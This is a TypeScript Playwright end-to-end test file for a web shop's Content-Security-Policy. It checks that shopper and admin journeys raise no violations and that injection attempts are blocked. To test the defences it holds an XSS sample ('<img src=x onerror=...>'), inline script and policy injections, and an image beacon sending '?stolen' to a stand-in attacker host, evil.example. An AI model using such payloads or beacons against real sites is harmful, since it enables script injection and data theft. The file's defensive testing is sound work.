/**
 * The Content-Security-Policy in Chromium: allows every screen and blocks every injection.
 * @module-tag long
 */
import type { BrowserContextOptions, Page } from 'playwright-core';
import { expect, test } from 'vitest';
import {
  addToCartByHand,
  DESK,
  doAs,
  fillShipping,
  hydrated,
  logInAsAdmin,
  open,
  openAsAdmin,
  PHONE,
  signUpByHand,
  type Visitor,
  visit,
} from '../../support/browser/browser.ts';
import { sharedBrowser } from '../../support/browser/shared-browser.ts';
import { openShopForFile } from '../../support/shop-of-the-file.ts';

const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

const shop = openShopForFile();

async function asWatched(
  options: BrowserContextOptions,
  journey: (visitor: Visitor) => Promise<void>,
  url = shop.url,
): Promise<void> {
  const visitor = await visit(await sharedBrowser(), url, { serviceWorkers: 'allow', ...options });
  await doAs(visitor, async () => {
    await visitor.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
        console.warn(`refused: ${effectiveDirective} ${blockedURI} ${sample}`),
      );
    });
    await journey(visitor);
  });
}

/** Waits until scripts run and requests are answered. */
async function looksAt(page: Page, ...paths: string[]): Promise<void> {
  for (const path of paths) {
    await page.goto(path, { waitUntil: 'networkidle' });
    await hydrated(page);
  }
}

async function hasNoInlineStyle(path: string, cookie = ''): Promise<void> {
  const html = await (await fetch(shop.url + path, { headers: { cookie } })).text();
  expect([path, /<style|\sstyle="/.exec(html)?.[0]]).toEqual([path, undefined]);
}

test('a shopper comes from the home page to an order, and nothing is refused', async () => {
  await asWatched({ viewport: PHONE }, async ({ page, complaints }) => {
    await looksAt(page, '/');
    for (const path of ['/', '/products', '/product/ml-001', '/contact', '/login'])
      await hasNoInlineStyle(path);
    await looksAt(page, '/products');
    // React writes structured data in the browser.
    await page.getByRole('article').first().getByRole('link').first().click();
    await page.getByText('Stock Available').waitFor();
    expect(await page.locator('script[type="application/ld+json"]').count()).toBe(2);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    await signUpByHand(page);
    await addToCartByHand(page);
    await looksAt(page, '/cart', '/checkout');
    await fillShipping(page);
    await page.getByRole('button', { name: 'Place Order' }).click();
    await page.getByRole('heading', { name: /^USM-/ }).waitFor();
    await page.goto('/about');
    await page.getByRole('button', { name: /^Open chat/ }).click();
    await page.getByLabel('Write to the shop').fill('Is it soft?');
    await page.getByLabel('Write to the shop').press('Enter');
    await page.getByRole('log').getByText('Is it soft?').waitFor();
    expect(complaints).toEqual([]);
  });
});

test('the admin sees charts, a toast and a push switch, and nothing is refused', async () => {
  await asWatched({ viewport: DESK }, async ({ page, complaints }) => {
    // Headless browsers deny notifications.
    await page.addInitScript(() => {
      Object.defineProperty(Notification, 'permission', { get: () => 'granted' });
      Notification.requestPermission = async () => 'granted';
    });
    await logInAsAdmin(page);
    await looksAt(page, '/admin/reports');
    const chart = page.locator('.recharts-surface').first();
    await chart.waitFor();
    await chart.hover();
    await page.locator('.recharts-tooltip-wrapper').first().waitFor({ state: 'attached' });
    await looksAt(page, '/admin');
    await page.getByRole('button', { name: 'Notify this device' }).click();
    // Chromium cannot subscribe to a push server here.
    await page.waitForFunction(() =>
      navigator.serviceWorker.getRegistration('/admin').then((one) => one?.scope.endsWith('/admin')),
    );
    await open(page, '/admin/products?new=1');
    await page.getByLabel('Custom category').fill('Wool');
    await page.getByRole('button', { name: 'Add Category' }).click();
    await page.getByText('Category added').waitFor();
    const toast = page.locator('[data-toast]');
    // Proves that the toast's style sheet is applied.
    await expect.poll(() => toast.evaluate((one) => getComputedStyle(one).position)).toBe('fixed');
    expect(complaints.filter((line) => !line.includes('Push API in incognito'))).toEqual([]);
  });
});

test('a script, a style, a handler and text as code are refused', async () => {
  await asWatched({ viewport: DESK }, async ({ page, complaints }) => {
    await open(page, '/contact');
    const refused = await page.evaluate(() => {
      const results: string[] = [];
      const tryTo = (name: string, act: () => void) => {
        try {
          act();
        } catch (error) {
          results.push(`${name}: ${(error as Error).name}`);
        }
      };
      tryTo('innerHTML', () => {
        document.createElement('div').innerHTML = '<img src=x onerror=pwned=1>';
      });
      tryTo('script text', () => {
        const script = document.createElement('script');
        script.textContent = 'pwned=1';
        document.body.append(script);
      });
      tryTo('script address', () => {
        document.createElement('script').src = '/assets/x.js';
      });
      tryTo('a second policy', () => {
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
        ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
      });
      tryTo('a worker', () => new Worker('/assets/x.js'));
      const element = document.createElement('p');
      element.setAttribute('style', 'position: fixed');
      document.body.append(element);
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      const { position } = getComputedStyle(element);
      return {
        results,
        position,
        display: getComputedStyle(document.body).display,
        pwned: 'pwned' in window,
      };
    });
    expect(refused).toEqual({
      results: [
        'innerHTML: TypeError',
        'script text: TypeError',
        'script address: TypeError',
        'a second policy: TypeError',
        'a worker: TypeError',
      ],
      position: 'static',
      display: 'block',
      pwned: false,
    });
    await expect
      .poll(() => complaints.some((line) => line.startsWith('refused: require-trusted-types-for')))
      .toBe(true);
  });
});

test('pictures show from the hosts that the catalogue names, from no other, and from a new one once it is saved', async () => {
  await asWatched({ viewport: DESK }, async ({ page, complaints }) => {
    await page
      .context()
      .route(/^https:\/\/(?:cdn|evil)\.example\//, (route) =>
        route.fulfill({ body: PICTURE, contentType: 'image/gif' }),
      );
    await openAsAdmin(page, '/admin/products');
    const policy = async (path: string) =>
      (await fetch(shop.url + path)).headers.get('content-security-policy') ?? '';
    expect(await policy('/about')).toContain("; img-src 'self' data:;");
    await page.getByRole('link', { name: 'Add Product' }).click();
    await page.getByRole('main').getByText('Enter the address of a picture', { exact: true }).click();
    const form = {
      'Product ID': 'CDN-1',
      'Price (Rs.)': '900',
      'Image URL': 'https://cdn.example/cloth.gif',
    };
    for (const [label, text] of Object.entries(form)) await page.getByLabel(label).fill(text);
    await page.locator('[name=description]').fill('From elsewhere.');
    await page.getByLabel('Name', { exact: true }).fill('Cloth from elsewhere');
    await page.getByLabel('Stock', { exact: true }).fill('4');
    await page.getByLabel('Main Category').selectOption('Men');
    await page.getByLabel('Subcategory').selectOption('Latha');
    await page.getByText('Shown once saved').waitFor();
    await page.getByRole('button', { name: 'Save Product' }).click();
    // A new host needs a page load with the new policy; the toast may be gone by then.
    const row = page.locator('[src="https://cdn.example/cloth.gif"]');
    await row.scrollIntoViewIfNeeded();
    await expect.poll(() => row.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBe(1);
    expect(complaints).toEqual([]);
    const pages = ['/contact', '/products?mainCategory=Men&sort=newest'];
    for (const path of pages)
      expect(await policy(path)).toContain("; img-src 'self' data: https://cdn.example;");
    await page.goto('/contact');
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/?stolen';
    });
    await expect
      .poll(() => complaints.some((line) => line.includes('img-src https://evil.example')))
      .toBe(true);
  });
});
